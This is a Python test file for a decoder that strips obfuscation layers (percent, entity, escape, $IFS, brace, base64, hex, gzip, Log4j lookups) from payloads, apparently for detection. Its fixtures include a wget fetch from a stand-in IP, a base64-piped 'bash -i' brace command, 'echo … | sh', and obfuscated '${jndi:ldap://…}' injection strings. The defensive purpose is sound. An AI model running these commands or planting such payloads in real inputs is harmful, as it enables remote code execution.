"""What wraps a payload is undone, in linear time and memory, and nothing grows."""

from __future__ import annotations

import base64
import gzip
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eudaemon.wire import decode


@pytest.mark.parametrize(
    ("wrapped", "plain"),
    [
        (b"wget%20http%3A%2f%2Fa", b"wget http://a"),
        (b"%2524", b"%24"),
        (b"%u0024%u20AC", "$€".encode()),
        (b"100%, %zz %4", b"100%, %zz %4"),
        (b"%ud800", b"%ud800"),
    ],
)
def test_percent(wrapped: bytes, plain: bytes) -> None:
    assert decode.percent(wrapped) == plain


def test_plus_is_a_blank_only_where_a_form_says_so() -> None:
    assert decode.percent(b"a+b%2b") == b"a+b+"
    assert decode.percent(b"a+b%2b", plus=True) == b"a b+"


@pytest.mark.parametrize(
    ("wrapped", "plain"),
    [
        (b"&lt;a&gt; &amp;&amp; &quot;b&quot;", b'<a> && "b"'),
        (b"&#36;&#x28;id&#X29;", b"$(id)"),
        (b"&nothing; & &#; &#x; &#1114112; &#xd800;", b"&nothing; & &#; &#x; &#1114112; &#xd800;"),
        (b"&amp;lt;", b"&lt;"),
    ],
)
def test_html_entities(wrapped: bytes, plain: bytes) -> None:
    assert decode.html_entities(wrapped) == plain


@pytest.mark.parametrize(
    ("wrapped", "plain"),
    [
        (rb"\x7f\x45\x4cF", b"\x7fELF"),
        (rb"\101\0\60", b"A\x000"),
        (rb"\u0024\u{28}id\u{29}", b"$(id)"),
        (rb"http:\/\/a\\b\"", b'http://a\\b"'),
        (rb"\q \u12 \u{} \u{110000} \x", rb"\q \u12 \u{} \u{110000} \x"),
        (b"end\\", b"end\\"),
    ],
)
def test_backslashes(wrapped: bytes, plain: bytes) -> None:
    assert decode.backslashes(wrapped) == plain


@pytest.mark.parametrize("blank", [b"${IFS}", b"$IFS", b"$IFS$9", b"${IFS%??}"])
def test_ifs(blank: bytes) -> None:
    assert decode.ifs(b"wget" + blank + b"-q") == b"wget -q"


def test_braces_are_bashs_way_to_do_without_blanks() -> None:
    assert decode.braces(b"bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}") == b"bash -c echo aWQ=|base64 -d|bash -i"
    assert decode.braces(b"${x,y} {a b}") == b"${x,y} {a b}"


@given(st.binary(max_size=100), st.booleans(), st.booleans())
def test_base64_comes_back(data: bytes, padded: bool, url_safe: bool) -> None:
    text = (base64.urlsafe_b64encode if url_safe else base64.b64encode)(data)
    assert decode.base64_text(text if padded else text.rstrip(b"=")) == (data or None)
    if len(text) >= 20:
        assert data in list(decode.base64_runs(b"echo " + text.rstrip(b"=") + b" | sh"))


@pytest.mark.parametrize("text", [b"", b"a", b"a$b=", b"====", b"abcde"])
def test_what_is_no_base64(text: bytes) -> None:
    assert decode.base64_text(text) is None


def test_runs_stop_at_their_limit() -> None:
    many = b" ".join([b"QUFBQUFBQUFBQUFBQUFB"] * 5)
    assert len(list(decode.base64_runs(many, runs_max=4))) == 4
    assert len(list(decode.base64_runs(many, runs_max=9))) == 5
    assert list(decode.base64_runs(many, run_bytes_min=21)) == []
    assert list(decode.hex_runs(b"0x4d5a90000300000004 4d5a", runs_max=1)) == [bytes.fromhex("4d5a90000300000004")]


@pytest.mark.parametrize("squeeze", [gzip.compress, zlib.compress, lambda data: zlib.compress(data)[2:-4]])
def test_inflated_to_the_limit_and_not_one_more(squeeze: object) -> None:
    assert callable(squeeze)
    packed = squeeze(b"a" * 1000)
    assert decode.inflated(packed, 1001) == (b"a" * 1000, True)
    assert decode.inflated(packed, 999) == (b"a" * 999, False)
    assert decode.inflated(packed, 0) == (b"", False)


def test_a_bomb_costs_its_limit() -> None:
    bomb = gzip.compress(bytes(50_000_000), 9)
    assert decode.inflated(bomb, 1000) == (bytes(1000), False)


@pytest.mark.parametrize("broken", [b"", b"no gzip at all", gzip.compress(b"hello")[:-6]])
def test_what_cannot_be_inflated_says_so(broken: bytes) -> None:
    assert decode.inflated(broken, 1000)[1] is False


@given(st.binary(max_size=200) | st.text("%u&#x;\\+0123456789abcdef{},$IFS", max_size=200).map(str.encode))
def test_nothing_grows(data: bytes) -> None:
    made = [decode.percent(data), decode.html_entities(data), decode.backslashes(data), decode.ifs(data),
            decode.lookups(data)[0]]  # fmt: skip
    made += [decode.braces(data), *decode.base64_runs(data), *decode.hex_runs(data)]
    assert all(len(text) <= len(data) for text in made)
    everything = list(decode.layers(data, texts_max=6, bytes_max=500))
    assert everything[0] == data
    assert len(everything) == len(set(everything)) <= 6
    assert sum(map(len, everything)) <= max(500, len(data))


def test_layers_reach_what_is_wrapped_three_times() -> None:
    inner = b"wget http://198.51.100.7/x"
    wrapped = b"cmd=" + base64.b64encode(inner).replace(b"=", b"%3D").replace(b"%", b"&#37;")
    assert inner in list(decode.layers(wrapped))


@pytest.mark.parametrize(
    ("text", "resolved", "urls"),
    [
        (b"${jndi:ldap://h/x}", b"jndi:ldap://h/x ", ("ldap://h/x",)),
        (b"a ${${lower:J}n${lower:D}i:${::-r}m${env:X:-i}:/h:1099/x} b", b"a jndi:rmi://h:1099/x  b", ("rmi://h:1099/x",)),
        (b"${jndi:dns:h} ${jndi:DNS://h} ${jndi:file:///x}", b"jndi:dns://h  jndi:dns://h  ", ("dns://h",)),
        (b"${date:'j'}${sys:user.home}$${", b"j$${", ()),
        (b"${jndi:ldap://${hostName}.h/${java:os}}", b"jndi:ldap://h/ ", ("ldap://h/",)),
        ("${jnd${upper:\u0131}:ldap://h/x}".encode(), b"jndi:ldap://h/x ", ("ldap://h/x",)),
        (b"no lookups", b"no lookups", ()),
    ],
)  # fmt: skip
def test_lookups(text: bytes, resolved: bytes, urls: tuple[str, ...]) -> None:
    assert decode.lookups(text) == (resolved, urls)
